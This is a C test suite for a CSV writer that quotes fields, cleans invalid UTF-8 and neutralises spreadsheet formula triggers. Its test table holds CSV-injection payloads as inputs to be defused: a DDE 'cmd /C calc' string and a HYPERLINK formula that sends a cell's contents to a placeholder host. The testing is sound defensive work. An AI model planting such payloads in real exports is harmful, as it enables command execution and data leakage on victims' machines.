/*
 * test_csvw.c: the CSV writer, its quoting and formula neutralisation.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "csvw.h"

#define FFFD	"\xef\xbf\xbd"
#define FW_EQ	"\xef\xbc\x9d"		/* U+FF1D */
#define FW_PLUS	"\xef\xbc\x8b"		/* U+FF0B */
#define FW_MIN	"\xef\xbc\x8d"		/* U+FF0D */
#define FW_AT	"\xef\xbc\xa0"		/* U+FF20 */

struct field_case {
	const char	*in;
	size_t		 len;	/* 0: strlen */
	const char	*want;	/* the whole one-field document */
};

static const struct field_case	field_cases[] = {
	/* Plain text, quoted. */
	{ "", 0, "\"\"" },
	{ "plain", 0, "\"plain\"" },
	{ "a,b", 0, "\"a,b\"" },
	{ "1=1", 0, "\"1=1\"" },
	{ "5", 0, "\"5\"" },
	{ "日本語", 0, "\"日本語\"" },
	{ "\xe2\x80\xa8", 0, "\"\xe2\x80\xa8\"" },
	{ "\xf0\x9f\x94\x91", 0, "\"\xf0\x9f\x94\x91\"" },
	/* Quotes doubled. */
	{ "a\"b", 0, "\"a\"\"b\"" },
	{ "\"", 0, "\"\"\"\"" },
	{ "\"\"", 0, "\"\"\"\"\"\"" },
	{ "\"=1", 0, "\"\"\"=1\"" },
	/* Line breaks stay inside the quotes. */
	{ "line\nbreak", 0, "\"line\nbreak\"" },
	{ "line\r\nbreak", 0, "\"line\r\nbreak\"" },
	{ "\n=1", 0, "\"\n=1\"" },
	/* Formula triggers, ASCII. */
	{ "=1+1", 0, "\"'=1+1\"" },
	{ "=", 0, "\"'=\"" },
	{ "-5", 0, "\"'-5\"" },
	{ "-", 0, "\"'-\"" },
	{ "+81 3 1234 5678", 0, "\"'+81 3 1234 5678\"" },
	{ "@SUM(A1)", 0, "\"'@SUM(A1)\"" },
	{ "\tx", 0, "\"'\tx\"" },
	{ "\rx", 0, "\"'\rx\"" },
	{ "\r\n", 0, "\"'\r\n\"" },
	{ "=HYPERLINK(\"http://x/?\"&A1,\"y\")", 0,
	    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"" },
	{ "=cmd|' /C calc'!A0", 0, "\"'=cmd|' /C calc'!A0\"" },
	/* Formula triggers, full-width. */
	{ FW_EQ "1", 0, "\"'" FW_EQ "1\"" },
	{ FW_PLUS "1", 0, "\"'" FW_PLUS "1\"" },
	{ FW_MIN "1", 0, "\"'" FW_MIN "1\"" },
	{ FW_AT "SUM(A1)", 0, "\"'" FW_AT "SUM(A1)\"" },
	{ "\xef\xbc\x9e" "1", 0, "\"\xef\xbc\x9e" "1\"" },	/* U+FF1E */
	{ "\xef\xbc\x91", 0, "\"\xef\xbc\x91\"" },		/* U+FF11 */
	/* Only the first character counts. */
	{ "a=1", 0, "\"a=1\"" },
	{ " =1", 0, "\" =1\"" },
	{ "'=1", 0, "\"'=1\"" },
	{ "x" FW_EQ, 0, "\"x" FW_EQ "\"" },
	/* NUL bytes are dropped, before the first character is judged. */
	{ "a\0b", 3, "\"ab\"" },
	{ "\0", 1, "\"\"" },
	{ "\0\0", 2, "\"\"" },
	{ "\0=1+1", 5, "\"'=1+1\"" },
	{ "\0\0@x", 4, "\"'@x\"" },
	{ "\0" FW_EQ, 4, "\"'" FW_EQ "\"" },
	{ "=1\0", 3, "\"'=1\"" },
	{ "\"\0\"", 3, "\"\"\"\"\"\"" },
	/* Invalid UTF-8: one U+FFFD per byte, never a trigger. */
	{ "\xff", 0, "\"" FFFD "\"" },
	{ "\xff=1", 0, "\"" FFFD "=1\"" },
	{ "\xef\xbc", 0, "\"" FFFD FFFD "\"" },
	{ "\xef\xbc" "=", 0, "\"" FFFD FFFD "=\"" },
	{ "\xef\0\xbc\x9d", 4, "\"" FFFD FFFD FFFD "\"" },
	{ "\xc0\xaf", 0, "\"" FFFD FFFD "\"" },
	{ "\xed\xa0\x80", 0, "\"" FFFD FFFD FFFD "\"" },
	{ "\xf4\x90\x80\x80", 0, "\"" FFFD FFFD FFFD FFFD "\"" },
	{ "a\xe6\x97", 0, "\"a" FFFD FFFD "\"" },
	{ "\xe6\x97\"", 0, "\"" FFFD FFFD "\"\"\"" },
	{ "日\xff本", 0, "\"日" FFFD "本\"" },
	/* Length is honoured. */
	{ "=1+1", 1, "\"'=\"" },
	{ "ab\"", 2, "\"ab\"" },
};

struct int_case {
	int64_t		 v;
	const char	*want;
};

static const struct int_case	int_cases[] = {
	{ 0, "0" },
	{ 5, "5" },
	{ -5, "-5" },
	{ 1234567890, "1234567890" },
	{ INT64_MAX, "9223372036854775807" },
	{ INT64_MIN, "-9223372036854775808" },
};

static void
test_fields(void **state)
{
	struct pc_csvw	w;
	char		*s;
	size_t		i, len, slen;

	(void)state;
	for (i = 0; i < sizeof(field_cases) / sizeof(field_cases[0]); i++) {
		len = field_cases[i].len ? field_cases[i].len :
		    strlen(field_cases[i].in);
		pc_csvw_init(&w);
		pc_csvw_field(&w, field_cases[i].in, len);
		s = pc_csvw_finish(&w, &slen);
		assert_non_null(s);
		if (strcmp(s, field_cases[i].want) != 0 ||
		    slen != strlen(field_cases[i].want))
			fail_msg("field #%zu: got [%s] (%zu), want [%s]", i,
			    s, slen, field_cases[i].want);
		free(s);
	}
}

static void
test_ints(void **state)
{
	struct pc_csvw	w;
	char		*s;
	size_t		i, slen;

	(void)state;
	for (i = 0; i < sizeof(int_cases) / sizeof(int_cases[0]); i++) {
		pc_csvw_init(&w);
		pc_csvw_int(&w, int_cases[i].v);
		s = pc_csvw_finish(&w, &slen);
		assert_non_null(s);
		if (strcmp(s, int_cases[i].want) != 0 ||
		    slen != strlen(int_cases[i].want))
			fail_msg("int #%zu: got [%s], want [%s]", i, s,
			    int_cases[i].want);
		free(s);
	}
}

static void
test_rows(void **state)
{
	struct pc_csvw	w;
	char		*s;
	size_t		len;

	(void)state;
	pc_csvw_init(&w);
	pc_csvw_field(&w, "id", 2);
	pc_csvw_field(&w, "name", 4);
	pc_csvw_field(&w, "amount", 6);
	assert_int_equal(w.fields, 3);
	pc_csvw_endrow(&w);
	assert_int_equal(w.fields, 0);
	pc_csvw_int(&w, 1);
	pc_csvw_field(&w, "=HYPERLINK(\"http://x\")", 22);
	pc_csvw_int(&w, -500);
	pc_csvw_endrow(&w);
	pc_csvw_field(&w, "", 0);
	pc_csvw_int(&w, 0);
	pc_csvw_field(&w, "a\r\nb", 4);
	pc_csvw_endrow(&w);
	pc_csvw_field(&w, "山田 太郎", strlen("山田 太郎"));
	pc_csvw_field(&w, "-5", 2);
	pc_csvw_int(&w, -5);
	pc_csvw_endrow(&w);
	s = pc_csvw_finish(&w, &len);
	assert_non_null(s);
	assert_string_equal(s,
	    "\"id\",\"name\",\"amount\"\r\n"
	    "1,\"'=HYPERLINK(\"\"http://x\"\")\",-500\r\n"
	    "\"\",0,\"a\r\nb\"\r\n"
	    "\"山田 太郎\",\"'-5\",-5\r\n");
	assert_int_equal(len, strlen(s));
	free(s);
	/* finish hands the buffer over and leaves w empty. */
	assert_null(w.buf);
	assert_int_equal(w.len, 0);
	assert_int_equal(w.fields, 0);

	/* An empty row, a lone field, a row left open at the end. */
	pc_csvw_init(&w);
	pc_csvw_endrow(&w);
	pc_csvw_int(&w, 7);
	pc_csvw_endrow(&w);
	pc_csvw_field(&w, "x", 1);
	pc_csvw_field(&w, NULL, 0);
	pc_csvw_field(&w, NULL, 5);
	s = pc_csvw_finish(&w, &len);
	assert_non_null(s);
	assert_string_equal(s, "\r\n7\r\n\"x\",\"\",\"\"");
	assert_int_equal(len, strlen(s));
	free(s);

	/* Nothing written: an empty document, not an error. */
	pc_csvw_init(&w);
	s = pc_csvw_finish(&w, &len);
	assert_non_null(s);
	assert_string_equal(s, "");
	assert_int_equal(len, 0);
	free(s);
}

static void
test_oom_sticky(void **state)
{
	struct pc_csvw	w;
	size_t		len = 99;

	(void)state;
	pc_csvw_init(&w);
	pc_csvw_field(&w, "a", 1);
	w.oom = 1;
	pc_csvw_field(&w, "b", 1);
	pc_csvw_int(&w, 1);
	pc_csvw_endrow(&w);
	assert_int_equal(w.len, 3);		/* nothing after the failure */
	assert_null(pc_csvw_finish(&w, &len));
	assert_int_equal(len, 0);
	assert_null(w.buf);
	assert_int_equal(w.oom, 0);

	/* free is safe after finish, twice, and on an unused writer. */
	pc_csvw_free(&w);
	pc_csvw_free(&w);
	pc_csvw_init(&w);
	pc_csvw_field(&w, "x", 1);
	pc_csvw_free(&w);
	assert_null(w.buf);
}

static void
test_grow(void **state)
{
	struct pc_csvw	w;
	char		*s, num[32];
	size_t		i, len, off;

	(void)state;
	pc_csvw_init(&w);
	for (i = 0; i < 10000; i++) {
		pc_csvw_int(&w, (int64_t)i);
		pc_csvw_field(&w, "=x", 2);
		pc_csvw_endrow(&w);
	}
	s = pc_csvw_finish(&w, &len);
	assert_non_null(s);
	assert_int_equal(len, strlen(s));
	off = 0;
	for (i = 0; i < 10000; i++) {
		snprintf(num, sizeof(num), "%zu,\"'=x\"\r\n", i);
		assert_memory_equal(s + off, num, strlen(num));
		off += strlen(num);
	}
	assert_int_equal(off, len);
	free(s);
}

/* --- self-check on random input ---------------------------------------- */

static uint64_t	rng_state = 0x13198a2e03707344ULL;

static uint32_t
rng(void)
{
	/* xorshift64*: the same sequence on every libc. */
	rng_state ^= rng_state >> 12;
	rng_state ^= rng_state << 25;
	rng_state ^= rng_state >> 27;
	return ((uint32_t)((rng_state * 0x2545f4914f6cdd1dULL) >> 32));
}

/* Length of the strictly valid UTF-8 sequence at s (1..4), or 0. */
static size_t
utf8_seq(const unsigned char *s, size_t len)
{
	size_t		n, k;
	uint32_t	cp, min;

	if (s[0] < 0x80)
		return (1);
	if (s[0] >= 0xc2 && s[0] <= 0xdf) {
		n = 2; cp = s[0] & 0x1f; min = 0x80;
	} else if (s[0] >= 0xe0 && s[0] <= 0xef) {
		n = 3; cp = s[0] & 0x0f; min = 0x800;
	} else if (s[0] >= 0xf0 && s[0] <= 0xf4) {
		n = 4; cp = s[0] & 0x07; min = 0x10000;
	} else
		return (0);
	if (len < n)
		return (0);
	for (k = 1; k < n; k++) {
		if ((s[k] & 0xc0) != 0x80)
			return (0);
		cp = (cp << 6) | (s[k] & 0x3f);
	}
	if (cp < min || cp > 0x10ffff || (cp >= 0xd800 && cp <= 0xdfff))
		return (0);
	return (n);
}

static int
utf8_valid(const unsigned char *s, size_t len)
{
	size_t	i, n;

	for (i = 0; i < len; i += n)
		if ((n = utf8_seq(s + i, len - i)) == 0)
			return (0);
	return (1);
}

static int
is_trigger(const unsigned char *s, size_t len)
{
	if (len == 0)
		return (0);
	if (strchr("=+-@\t\r", s[0]) != NULL && s[0] != '\0')
		return (1);
	return (len >= 3 && (memcmp(s, FW_EQ, 3) == 0 ||
	    memcmp(s, FW_PLUS, 3) == 0 || memcmp(s, FW_MIN, 3) == 0 ||
	    memcmp(s, FW_AT, 3) == 0));
}

/*
 * The content a field must hold for input s: NULs dropped, each invalid
 * byte one U+FFFD, and a "'" in front if that text starts with a trigger.
 */
static size_t
expected(const unsigned char *s, size_t len, unsigned char *out)
{
	unsigned char	text[512];
	size_t		i, n, t = 0;

	for (i = 0; i < len; i += n) {
		if (s[i] == '\0') {
			n = 1;
			continue;
		}
		if ((n = utf8_seq(s + i, len - i)) == 0) {
			memcpy(text + t, FFFD, 3);
			t += 3;
			n = 1;
			continue;
		}
		memcpy(text + t, s + i, n);
		t += n;
	}
	n = 0;
	if (is_trigger(text, t))
		out[n++] = '\'';
	memcpy(out + n, text, t);
	return (n + t);
}

static size_t
random_field(unsigned char *buf, size_t max)
{
	static const char	*atoms[] = {
		"=", "+", "-", "@", "\t", "\r", "\n", "\"", ",", "'", " ",
		"a", "1", "日", FW_EQ, FW_PLUS, FW_MIN, FW_AT, "\xef\xbc",
		"\xff", "\xc0\xaf", "\xed\xa0\x80", "\xf0\x9f\x94\x91",
	};
	const char	*a;
	size_t		 len = 0, n, k, alen;

	n = rng() % 16;
	for (k = 0; k < n && len + 4 <= max; k++) {
		switch (rng() % 4) {
		case 0:
			buf[len++] = (unsigned char)rng();	/* any byte */
			break;
		case 1:
			buf[len++] = '\0';
			break;
		default:
			a = atoms[rng() % (sizeof(atoms) / sizeof(atoms[0]))];
			alen = strlen(a);
			memcpy(buf + len, a, alen);
			len += alen;
		}
	}
	return (len);
}

/*
 * 1000 random rows of random fields (a random string first, then up to
 * four more): the document is valid UTF-8, every field starts with '"',
 * parses back as RFC 4180 and holds exactly what expected() computes on
 * its own: no NUL, no invalid byte, a "'" in front of a trigger.
 */
static void
test_random(void **state)
{
	struct pc_csvw	w;
	unsigned char	in[5][128], want[512], dec[512];
	size_t		inlen[5], nf[1000], i, f, cl, dl, len, off;
	char		*s;

	(void)state;
	pc_csvw_init(&w);
	for (i = 0; i < 1000; i++) {
		nf[i] = 1 + rng() % 5;
		for (f = 0; f < nf[i]; f++) {
			inlen[f] = random_field(in[f], sizeof(in[f]));
			pc_csvw_field(&w, (char *)in[f], inlen[f]);
		}
		pc_csvw_endrow(&w);
	}
	s = pc_csvw_finish(&w, &len);
	assert_non_null(s);
	assert_int_equal(len, strlen(s));
	assert_true(utf8_valid((unsigned char *)s, len));

	/* Replay the same inputs and parse the document alongside. */
	rng_state = 0x13198a2e03707344ULL;
	off = 0;
	for (i = 0; i < 1000; i++) {
		assert_int_equal(nf[i], 1 + rng() % 5);
		for (f = 0; f < nf[i]; f++) {
			inlen[f] = random_field(in[f], sizeof(in[f]));

			if (f > 0) {
				assert_int_equal(s[off], ',');
				off++;
			}
			if (s[off] != '"')
				fail_msg("row %zu field %zu does not start "
				    "with a quote", i, f);
			off++;
			for (dl = 0;; off++) {
				assert_true(off < len);
				if (s[off] == '"') {
					if (s[off + 1] != '"')
						break;
					off++;
				}
				assert_true(dl < sizeof(dec));
				dec[dl++] = (unsigned char)s[off];
			}
			off++;		/* closing quote */
			assert_null(memchr(dec, '\0', dl));

			/* The oracle: what the field must hold. */
			cl = expected(in[f], inlen[f], want);
			if (dl != cl || memcmp(dec, want, cl) != 0)
				fail_msg("row %zu field %zu: wrong content",
				    i, f);
		}
		assert_memory_equal(s + off, "\r\n", 2);
		off += 2;
	}
	assert_int_equal(off, len);
	free(s);
}

int
main(void)
{
	const struct CMUnitTest	tests[] = {
		cmocka_unit_test(test_fields),
		cmocka_unit_test(test_ints),
		cmocka_unit_test(test_rows),
		cmocka_unit_test(test_oom_sticky),
		cmocka_unit_test(test_grow),
		cmocka_unit_test(test_random),
	};

	return (cmocka_run_group_tests(tests, NULL, NULL));
}
